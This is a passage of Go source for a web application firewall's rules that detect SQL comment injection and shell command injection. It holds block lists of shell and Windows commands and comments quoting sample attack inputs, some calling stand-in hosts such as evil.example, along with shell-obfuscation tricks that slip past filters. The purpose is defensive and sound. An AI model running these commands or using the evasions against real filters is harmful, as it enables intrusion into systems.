// parentheses, or the comment right after it; or an apostrophe, spaces and
// the comment with nothing after it, or punctuation, or more than one space
// before what follows. So the plural possessive of prose, an apostrophe,
// spaces, the comment and a letter, a digit, a quote, a parenthesis or a
// hash, at once or after one space ("Jones' #1 fan",
// "the Smiths' -- all of them", "the boss' /* note"), passes; admin'#,
// admin' #, admin' -- -, admins' -- (a user name ending in s) do not.
// Not covered: a user name ending in s, a space, the comment and a word
// (james' -- x, james' -- 'x'): the price of not refusing the possessive (see
// TestQuoteCommentOnProse).
const quoteCommentAfterS = `(?:[\"` + "`" + `]\)*` + quoteSpace + `*(?:#|--|/\*)` +
	`|'\)+` + quoteSpace + `*(?:#|--|/\*)` +
	`|'(?:#|--|/\*)` +
	`|'` + quoteSpace + `+(?:#|--|/\*)(?:` + quoteSpace + `*$|` + quoteSpace + `?[^\pL\pN\s\x0b �'\"(#]|` + quoteSpace + quoteSpace + `))`

// Commands that probe a host, for rule 210151.
var (
	// shellCommandsAnyArgs are not words of prose after a separator:
	// refused with any argument, or none.
	shellCommandsAnyArgs = []string{"whoami", "uname", "nslookup", "ifconfig", "netstat", "busybox",
		"base64", "printenv", "hostname", "curl", "wget", "ncat", "netcat", "telnet", "chmod", "chown", "sudo", "passwd"}
	// shellCommandsWords are words too (id, cat, ping, bash, python):
	// refused at the end of the value, before another separator (not a
	// line break or a '|': a line list, "Columns:\nid\nname", and a
	// Markdown table's cell, "| id | name |", "user|id|created", are
	// prose; "x|id|sh" is refused for its sh), a comment,
	// a closing ) or a closing backtick that ends the value or comes
	// before an operator (Markdown's inline code, "Set the `id` field",
	// "`id`: the key", is prose), or before an option, a path, a variable or a quote
	// ("; cat /etc/passwd"); not before a word ("bring it; cat lovers",
	// "party; bash at 8") nor a number ("Pets: dog; cat 3 years old"),
	// but for shellCommandsNumber.
	shellCommandsWords = []string{"id", "ls", "pwd", "ps", "dig",
		"sh", "bash", "zsh", "dash", "ksh", "python", "python2", "python3", "perl", "php", "ruby", "node", "env", "ip",
		"rm", "echo", "reboot", "shutdown", "who", "uptime", "ver"}
	// shellCommandsFile are words that read a file: refused before an
	// option, a path, a variable, a quote or a redirection ("; cat
	// /etc/passwd", "|more<x"), not alone: with no file they read their
	// input and probe nothing, and "Q&A; & more", "R&D; & less" end prose
	// (attack 60). And host, which alone prints its usage and looks up
	// nothing (;host $(whoami).evil.example is refused): AWS Signature
	// Version 4's signed headers, content-type;host;x-amz-date, in its
	// Authorization header and presigned URLs, are a list (attack 86's
	// false positive).
	shellCommandsFile = []string{"cat", "head", "tail", "more", "less", "host"}
	// shellCommandsNumber are shellCommandsWords whose argument is a
	// number: "; sleep 5", "; ping 127.0.0.1", "; kill 1".
	shellCommandsNumber = []string{"sleep", "ping", "kill"}
	// shellCommandsArgs are words with the arguments that make them
	// commands: "; ps aux", "; ip a", "; nc evil.example 4444" (a host
	// and a port; "NC; nc is North Carolina" is prose); Windows' net is
	// netCommand.
	shellCommandsArgs = map[string]string{"ps": `aux|ax|ef`, "ip": `a|addr|address|r|route|link|neigh`}
)

// netCommand is what follows Windows' net in rule 210151 (cmd.exe reads
// it in any case; alt allows what cmd.exe drops between letters, us^er
// and "us"er): localgroup with anything; user or view at the value's
// end or before a separator ("& net user"); and any of its subcommands
// followed, within four words (a quoted one, "Domain Admins", is one), by one of net's own options (/add,
// /domain, /delete, /active:yes, ...) or a UNC path (\\host): "& net
// user bob P@ss1 /add", "& net use z: \\evil\\share". Not "net" and a
// word of prose: "Gross & net share price", "Tax & net use", "Sales &
// net users", "pros & net user count" passed the fifth attack's form
// and were refused (a sixth fresh-eyes attack, attack 10, B12). Not
// covered: a subcommand and words without an option ("& net user bob",
// "& net stop spooler"), as prose is.
func netCommand(alt func([]string) string) string {
	subs := alt([]string{"user", "users", "group", "localgroup", "view", "share", "use", "session", "sessions", "accounts", "config",
		"start", "stop", "statistics", "time", "file", "files"})
	return `(?i:[ \t]+` + alt([]string{"localgroup"}) + `\b` +
		`|[ \t]+(?:` + alt([]string{"user", "view"}) + `)[ \t]*(?:\z|[;&|#)])` +
		`|[ \t]+(?:` + subs + `)` +
		`(?:[ \t]+(?:\"[^\"\n]*\"|[^\s/;&|\"]+)){0,4}[ \t]+(?:/(?:add|del|delete|domain|active|expires|passwordchg|passwordreq|logonpasswordchg|times|fullname|comment|usercomment|homedir|profilepath|scriptpath|workstations|persistent|savecred|user|grant|remark|users|unlimited|cache|smartcard|random|countrycode|y|yes|n|no|all|srvcomment|hidden|autodisconnect|close|sync)\b|\x5c\x5c))`
}

// shellGap is what a shell removes between a command's letters, for rule
// 210151 (shellCommandRule): one alternation of small classes, since a copy
// of it stands between every two letters of every command and its size is
// RE2's budget for the rule.
const shellGap = `(?:['\"\x5c^]|\x5c\r?\n|\$['\"@*\d]|\$[({][\w: ]*[)}]|` + "`[a-z:]*`" + `)*`

// cmdGap is what cmd.exe removes between a command's letters, for rule
// 210151: its caret and a double quote (a variable's substring of
// nothing, %PATH:~0,0%, is refused wherever it stands).
const cmdGap = `[\^\"]*`

// shellLead is what rule 210151 reads between a separator (and its
// white space) and the command: quotes, cmd.exe's carets, grouping (a
// subshell's '(', a group's '{') and cmd.exe's call.
const shellLead = `(?:['\"\x5c^]|\$['\"]|[({]\s*|(?i:call)[ \t]+)*`

// shellCommandRule is rule 210151's expression: a separator, optional
// spaces, quotes, cmd.exe's carets, grouping (a subshell's '(', a
// group's '{') and cmd.exe's call, then a command of the lists above
// with what a shell removes allowed between its letters: quotes and
// backslashes (c'u'rl, w”get, s”h are curl, wget and sh), cmd.exe's
// caret (n^et, v^er, c^u^r^l), bash's $'...' and $"..." quoting (i$'d') and
// expansions to nothing ($@, $*, $(), ${x}: w$@get, i$()d; and since a
// sixth fresh-eyes attack's B14, the positional parameters $1-$9,
// $(true), `true`, `:` (any word in $() or backticks: w$(id)get runs id
// too), and $” or $"" before the first letter: w$1get, w`true`get,
// $'i'd), then what must follow it; Windows' net as net1 or net.exe too, %COMSPEC% and
// cmd /c with anything; and a word in bash's ANSI-C quoting with an
// escape in it ($'\x69\x64', i$'\x64': bash decodes it, so it runs id).
// The carets, net1, net.exe, "net", call, %COMSPEC% and ANSI-C quoting
// passed a sixth fresh-eyes attack (attack 10, B9).
func shellCommandRule() string {
	return shellSeparator + `\s*` + shellLead + shellCommandBody(false)
}

// shellSeparator is a shell's command separator for rule 210151: ; | &
// a backtick, a line break or $(.
const shellSeparator = `(?:[;|&` + "`" + `\n]|\$\()`

// shellCommandBody is rule 210151's command and what must follow it (see
// shellCommandRule); bare, only the commands that are no words of prose
// with anything after them and the others alone (before the value's end,
// a separator or a comment: "do id;", not "do echo $f"), for rule 210193
// after the shell's own words.
func shellCommandBody(bare bool) string {
	const gap = shellGap
	split := func(w string) string {
		var b strings.Builder
		for i := 0; i < len(w); i++ {
			if i > 0 {
				b.WriteString(gap)
			}
			b.WriteByte(w[i])
		}
		return b.String()
	}
	alt := func(ws []string) string {
		parts := make([]string, len(ws))
		for i, w := range ws {
			parts[i] = split(w)
		}
		return strings.Join(parts, "|")
	}
	// after a command that is no word of prose: the end, any separator
	end := gap + `\s*(?:$|[;|&` + "`" + `#)\n])`
	// after a word: the value's end (\z: Coraza compiles @rx with (?m),
	// where $ is a line's), a separator but a line break or a '|', or a
	// closing backtick at the end or before a shell's operator (inline
	// code before a word or punctuation, "`id`: the key", is prose)
	endWord := gap + `(?:\s*(?:\z|[;&#)])|` + "`" + `(?:\s*\z|[ \t]*[;&<>]|\|))`
	// after a command that reads a file: its file or an option (after a
	// shell's word, for 210193: a path; "then cat $x" is code)
	fileArg := gap + `(?:[ \t]*<|[ \t]+['\"]*[-/$'\"~*.<])`
	var withArgs []string
	for _, w := range []string{"ip", "ps"} {
		// then the end, a separator or an option ("| ip a ok" is prose)
		withArgs = append(withArgs, split(w)+`[ \t]+(?:`+shellCommandsArgs[w]+`)(?:[ \t]*(?:\z|[;&#)-])|[|`+"`"+`])`)
	}
	// cmd.exe's own: only its caret and quotes between letters
	// (and since a seventh attack, attack 11: a substring of nothing,
	// %PATH:~0,0%, and a command's path, %SystemRoot%\system32\net,
	// C:\Windows\System32\whoami.exe)
	cmdAlt := func(ws []string) string {
		parts := make([]string, len(ws))
		for i, w := range ws {
			parts[i] = strings.Join(strings.Split(w, ""), cmdGap)
		}
		return strings.Join(parts, "|")
	}
	const winPath = `(?:(?:%\w+%|[a-z]:)(?:\x5c[\w. ]+)*\x5c)?`
	withArgs = append(withArgs, `(?i:`+winPath+cmdAlt([]string{"net"})+`(?:[\^\"]*1)?(?:[\^\"]*\.exe)?[\^\"]*)`+netCommand(cmdAlt))
	// cmd.exe's ver in any case (the CRS's 932 rules read the other
	// Windows commands in any case), where a word ends (not before a '|'
	// or a line break: a Markdown table's "| ver |" is prose); start with
	// a program that runs code
	withArgs = append(withArgs, `(?i:`+cmdAlt([]string{"ver"})+`)\s*(?:\z|[;&#)])`,
		// a word with a substring of nothing in it: no prose has one
		`[\w^\"]*%\w*:~-?\d+,0%`,
		`(?i:start(?:[ \t]+(?:/\w+|\"[^\"]*\"))*[ \t]+`+winPath+`(?:cmd|powershell|pwsh|calc|rundll32|mshta|wscript|cscript|certutil|bitsadmin|regsvr32)\b)`)
	// cmd.exe itself
	withArgs = append(withArgs, `(?i:%comspec%|cmd(?:\.exe)?[ \t]+/[ck]\b)`)
	// PowerShell (a ninth fresh-eyes attack, attack 13:
	// 127.0.0.1;iex(iwr e.vil/x) and "| iex" passed): Invoke-Expression
	// (iex) before what it runs, a string, a variable, a cast, a script
	// block, -Command, or a cmdlet that fetches or reads one, in a group
	// or not (iex(iwr ...),
	// iex (New-Object Net.WebClient)..., iex $x); lower-case iex at the
	// value's end or before a ';' (iwr x | iex); Invoke-WebRequest (iwr)
	// and Invoke-RestMethod (irm) before an option, a quote, a variable or
	// a URL or host name. "NYSE; IEX (Investors Exchange)", "| IEX |" and
	// "DRM; IRM v2.0" are prose and pass.
	withArgs = append(withArgs, `(?i:iex|invoke-expression)[ \t]*\(?[ \t]*(?:\$[a-zA-Z_({]|['\"\[{]|(?i:iwr|irm|new-object|invoke-\w+|get-content|gc|-c|-command)\b)`,
		`iex[ \t]*(?:\z|;)`,
		`(?i:iwr|irm|invoke-webrequest|invoke-restmethod)[ \t]+(?:-\w|['\"$(]|https?:|[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}(?:[:/]|\s|\z))`)
	// a word in bash's ANSI-C quoting with an escape (a character by
	// its code: \x69, \151, \u0069, \cA)
	withArgs = append(withArgs, `[\w./'\"^-]*\$'(?:[^'\x5c]|\x5c.)*\x5c(?:x[0-9a-fA-F]|[0-7]|[uU][0-9a-fA-F]|c.)`)
	// nc: as a word, or before an option, a path, a variable or a quote,
	// or a host and then a port ("nc evil.example 4444")
	withArgs = append(withArgs, split("nc")+`(?:`+endWord+`|[ \t]+['\"]*[-/$'\"~*]|[ \t]+[\w.-]+[ \t]+\d+(?:[ \t]*(?:\z|[;&#)])|[|`+"`"+`]))`)
	// arguments are on the command's line ("| ps\n- item" is a list)
	if bare {
		return `(?:(?:` + alt(shellCommandsAnyArgs) + `)(?:` + end + `|[ \t]+\S)` +
			`|(?:` + alt(shellCommandsWords) + `|` + alt(shellCommandsNumber) + `)` + endWord +
			`|(?:` + alt(shellCommandsFile) + `)` + gap + `(?:[ \t]*<|[ \t]+['\"]*[/~<])` + `)`
	}
	return `(?:` +
		`(?:` + alt(shellCommandsAnyArgs) + `)(?:` + end + `|[ \t]+\S)` +
		`|(?:` + alt(shellCommandsWords) + `)(?:` + endWord + `|` + gap + `[ \t]+['\"]*[-/$'\"~*.])` +
		`|(?:` + alt(shellCommandsFile) + `)` + fileArg +
		// a number then the end or a separator ("; sleep 5", not a
		// table's "| sleep 5s of")
		`|(?:` + alt(shellCommandsNumber) + `)(?:` + endWord + `|` + gap + `[ \t]+['\"]*[-/$'\"~*.]|` + gap + `[ \t]+\d+(?:\.\d+)*[a-z]?(?:[ \t]*(?:\z|[;&#)])|[|` + "`" + `]))` +
		`|` + strings.Join(withArgs, "|") + `)`
}
